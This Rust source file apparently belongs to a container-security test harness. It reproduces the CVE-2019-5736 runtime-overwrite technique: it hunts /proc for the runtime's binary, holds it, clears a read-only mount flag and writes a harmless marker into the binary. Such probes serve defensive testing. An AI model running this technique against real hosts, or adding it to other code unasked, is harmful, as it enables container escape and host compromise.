//! CVE-2019-5736: overwriting the runtime's own binary from inside.

use super::Answer;
use crate::sys::{self, Fail, Sys, call, from_io};
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

/// `overwrite-exe=SECONDS`: looks for a process here that executes a file other than this program (the runtime, on its
/// way in), holds that file, waits until nobody executes it, and writes to it.
/// A plain open for writing would give ETXTBSY with no protection at all, and prove nothing.
pub(super) fn overwrite_exe(arg: &str) -> Answer {
    let deadline = Instant::now() + Duration::from_secs(arg.parse().unwrap_or(10));
    let own = fs::metadata("/proc/self/exe").map_err(|e| from_io(&e, "stat"))?.ino();
    println!("hunting");
    while Instant::now() < deadline {
        for entry in fs::read_dir("/proc").map_err(|e| from_io(&e, "readdir"))?.flatten() {
            let exe = entry.path().join("exe");
            if fs::metadata(&exe).is_ok_and(|found| found.ino() != own && found.is_file())
                && let Ok(fd) = sys::open(&exe.display().to_string(), libc::O_PATH | libc::O_CLOEXEC)
            {
                println!("held");
                while entry.path().exists() && Instant::now() < deadline {
                    std::thread::sleep(Duration::from_millis(1));
                }
                return overwrite(fd);
            }
        }
    }
    Err(Fail {
        errno: libc::ENOENT,
        at: "hunt",
    })
}

fn overwrite(fd: i32) -> Answer {
    // A mount that is only read-only by a flag can be made writable by who holds it.
    let clear_read_only = [0u64, 1, 0, 0];
    let empty = c"";
    let words = [
        fd as usize,
        empty.as_ptr() as usize,
        libc::AT_EMPTY_PATH as usize,
        clear_read_only.as_ptr() as usize,
        size_of_val(&clear_read_only),
    ];
    let cleared = call("mount_setattr", libc::SYS_mount_setattr, &words).is_ok();
    let mut answer: Sys<i32> = Err(Fail {
        errno: libc::ETXTBSY,
        at: "open",
    });
    for _ in 0..200 {
        answer = sys::open(&format!("/proc/self/fd/{fd}"), libc::O_WRONLY | libc::O_CLOEXEC);
        if !matches!(answer, Err(fail) if fail.errno == libc::ETXTBSY) {
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let writer = answer? as usize;
    let text = b"overwritten";
    call("write", libc::SYS_write, &[writer, text.as_ptr() as usize, text.len()])?;
    Ok(format!("cleared={cleared}"))
}
